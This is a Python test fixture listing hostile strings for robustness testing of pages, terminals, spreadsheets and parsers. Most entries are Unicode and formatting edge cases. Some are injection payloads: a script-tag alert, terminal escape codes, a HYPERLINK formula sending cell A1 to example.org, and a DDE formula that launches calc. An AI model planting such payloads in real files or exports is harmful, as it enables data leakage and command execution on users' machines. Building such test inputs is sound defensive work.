"""Texts that break what is careless with them: a page, a terminal, a spreadsheet, a parser."""

HOSTILE = {
    "markup": "<script>alert('x')</script> & <b>\"quoted\"</b> ]]> &amp; <!-- -->",
    "right to left": "He \u202egnikaerb\u202c his arm \u2066\u2069 \u200f",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 fell \U0001f635 and \U0001f9d1\U0001f3ff\u200d\U0001f33e bled",
    "zero width": "b\u200bl\u200co\u200do\ufeffd\u00ad everywhere",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at and tab": "\t@SUM(1+1)",
    "apostrophes": "''Twas the knife,' he said.",
    "one apostrophe": "'",
    "separators": "a,b;c\td \"e\" 'f'",
    "lines": "one\r\ntwo\rthree\n\nfive\u2028six\u2029seven\u0085eight",
    "escapes": "\x1b[2J\x1b]0;owned\x07 \\n \\u0041 %s {0} $text ${x} {{y}}",
    "looks like a file": "s3://bucket/key.txt",
    "looks like JSON": '{"new": {"id": "x"}}',
    "very long": "long \U0001f480 " * 14_285 + "12345",
    "combining": "Z\u0351\u036b\u0343a\u0300\u0301 fell",
    "blank ends": "  he fell \u00a0",
}
